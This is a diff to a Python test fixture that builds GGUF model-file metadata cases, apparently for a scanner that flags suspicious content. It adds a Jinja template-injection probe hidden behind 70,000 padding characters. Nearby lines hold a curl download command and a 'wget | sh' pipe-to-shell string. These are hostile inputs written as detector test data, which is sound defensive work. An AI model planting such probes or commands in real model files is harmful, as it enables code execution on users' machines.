@@ -126,6 +126,7 @@ def gguf_metadata_cases() -> dict[str, tuple[str, bytes]]:
         "more_token_types": ("GGUF-VOCAB", gguf_bytes([key, tokens, gguf_array("tokenizer.ggml.token_type", 5, 3, bytes(12))], [tensor], whole)),
         "part_of_none": ("GGUF-SPLIT", gguf_bytes([key, gguf_key("split.no", 2, b"\2\0"), gguf_key("split.count", 2, b"\2\0")], [tensor], whole)),
         "template_elsewhere": ("GGUF-TEXT", gguf_bytes([key, gguf_key("general.description", 8, gguf_string("{{ ''.__class__ }}"))], [tensor], whole)),
+        "template_behind_text": ("GGUF-TEXT", gguf_bytes([key, gguf_key("general.description", 8, gguf_string("a" * 70_000 + "{{ ''.__class__ }}"))], [tensor], whole)),
         "command": ("GGUF-TEXT", gguf_bytes([key, gguf_key("download", 8, gguf_string("curl -o /tmp/x https://example.org/x"))], [tensor], whole)),
         "command_for_a_shell": ("GGUF-TEXT", gguf_bytes([key, gguf_key("general.url", 8, gguf_string("see: wget -q x | sh"))], [tensor], whole)),
         "list_of_templates": ("GGUF-TEXT", gguf_bytes([key, gguf_array("tokenizer.chat_templates", 8, 1, gguf_string("{{ x.__class__ }}"))], [tensor], whole)),
